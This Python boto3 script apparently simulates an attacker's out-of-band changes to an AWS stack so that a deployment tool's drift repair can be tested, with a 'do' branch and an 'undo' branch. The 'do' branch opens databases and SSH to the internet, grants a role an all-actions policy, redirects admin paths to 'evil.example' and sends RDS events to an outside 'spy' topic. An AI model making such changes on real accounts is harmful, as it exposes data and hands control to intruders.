"""What a stranger changes in a stack, by another SDK than the product's: `do` does it, `undo` takes away what `up` leaves alone."""
import json
import sys

import boto3

session = boto3.session.Session(region_name=sys.argv[1])
ec2, elb, iam, asg, cw, rds = (
    session.client(name) for name in ("ec2", "elbv2", "iam", "autoscaling", "cloudwatch", "rds")
)
vpc = ec2.describe_vpcs(Filters=[{"Name": "tag:buddyverse:stack", "Values": ["buddyverse"]}])["Vpcs"][0]["VpcId"]
GROUP = "Buddy-AutoScaling-Group"
role = [r["RoleName"] for r in iam.list_roles()["Roles"] if r["RoleName"].startswith("Buddy-WEB")][0]


def group(key):
    filters = [{"Name": "tag:buddyverse:key", "Values": [key]}, {"Name": "vpc-id", "Values": [vpc]}]
    return ec2.describe_security_groups(Filters=filters)["SecurityGroups"][0]["GroupId"]


def default_group():
    filters = [{"Name": "group-name", "Values": ["default"]}, {"Name": "vpc-id", "Values": [vpc]}]
    return ec2.describe_security_groups(Filters=filters)["SecurityGroups"][0]["GroupId"]


def to_world(port):
    return [{"IpProtocol": "tcp", "FromPort": port, "ToPort": port, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]


balancer = elb.describe_load_balancers(Names=["Buddy-LoadBalance"])["LoadBalancers"][0]["LoadBalancerArn"]
listeners = {l["Port"]: l["ListenerArn"] for l in elb.describe_listeners(LoadBalancerArn=balancer)["Listeners"]}

if sys.argv[2] == "do":
    # Managed.
    ec2.authorize_security_group_ingress(GroupId=group("group-db"), IpPermissions=to_world(3306))
    ec2.modify_vpc_attribute(VpcId=vpc, EnableDnsHostnames={"Value": False})
    asg.update_auto_scaling_group(AutoScalingGroupName=GROUP, MaxSize=9)
    cw.delete_alarms(AlarmNames=["Buddy-Web-CPU"])
    target = elb.describe_target_groups(Names=["Buddy-LoadBalance-TargetGroup"])["TargetGroups"][0]["TargetGroupArn"]
    elb.modify_target_group(TargetGroupArn=target, HealthCheckPath="/elsewhere")
    # Extra.
    made = {"subnet": ec2.create_subnet(VpcId=vpc, CidrBlock="172.31.77.0/24")["Subnet"]["SubnetId"]}
    made["group"] = ec2.create_security_group(VpcId=vpc, GroupName="theirs", Description="theirs")["GroupId"]
    ec2.authorize_security_group_ingress(GroupId=made["group"], IpPermissions=to_world(22))
    ec2.authorize_security_group_ingress(GroupId=default_group(), IpPermissions=to_world(5432))
    made["rule"] = elb.create_rule(
        ListenerArn=listeners[443],
        Priority=5,
        Conditions=[{"Field": "path-pattern", "Values": ["/admin*"]}],
        Actions=[
            {"Type": "redirect", "RedirectConfig": {"Protocol": "HTTPS", "Host": "evil.example", "StatusCode": "HTTP_302"}}
        ],
    )["Rules"][0]["RuleArn"]
    asg.put_lifecycle_hook(
        AutoScalingGroupName=GROUP, LifecycleHookName="theirs", LifecycleTransition="autoscaling:EC2_INSTANCE_LAUNCHING"
    )
    iam.put_role_policy(
        RoleName=role,
        PolicyName="theirs",
        PolicyDocument=json.dumps(
            {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
        ),
    )
    rds.create_event_subscription(
        SubscriptionName="theirs",
        SnsTopicArn="arn:aws:sns:ap-northeast-2:999988887777:spy",
        SourceType="db-instance",
        SourceIds=["database1"],
    )
    print(json.dumps(made))
else:
    made = json.loads(sys.argv[3])
    ec2.delete_subnet(SubnetId=made["subnet"])
    ec2.delete_security_group(GroupId=made["group"])
    elb.delete_rule(RuleArn=made["rule"])
    asg.delete_lifecycle_hook(AutoScalingGroupName=GROUP, LifecycleHookName="theirs")
    iam.delete_role_policy(RoleName=role, PolicyName="theirs")
    rds.delete_event_subscription(SubscriptionName="theirs")
